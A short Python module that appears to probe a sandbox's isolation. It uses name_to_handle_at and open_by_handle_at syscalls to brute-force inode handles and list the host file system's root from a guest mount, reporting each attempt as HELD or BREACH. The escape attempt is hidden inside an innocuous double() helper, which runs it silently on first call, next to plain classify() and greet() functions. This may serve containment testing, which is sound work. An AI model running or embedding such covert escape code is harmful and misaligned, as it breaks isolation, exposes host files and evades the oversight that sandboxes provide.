"""open_by_handle_at reads any file of a file system, whatever was bound of it."""

import ctypes
import errno
import os
import struct

LIBC = ctypes.CDLL(None, use_errno=True)

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def call(name, *arguments):
    """A function of the C library, with the kernel's errors as Python's."""
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return True


CALLS = {"x86_64": (303, 304), "aarch64": (264, 265)}


def open_number(number):
    """The root folder of whatever file system the guest's files lie on."""
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", number, 0) + bytes(120))
    mount = os.open("/opt/guest", os.O_RDONLY)
    fd = LIBC.syscall(CALLS[os.uname().machine][1], mount, ctypes.byref(handle), os.O_RDONLY)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.listdir(fd)


def get_handle():
    handle, mount = ctypes.create_string_buffer(struct.pack("<Ii", 120, 0) + bytes(120)), ctypes.c_int()
    if LIBC.syscall(CALLS[os.uname().machine][0], -100, b"/", ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    return handle.raw[:24]


def attack():
    attempt("the root's handle", get_handle)
    for number in (2, 64, 128, 256):
        attempt(f"inode {number}", lambda: open_number(number))


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
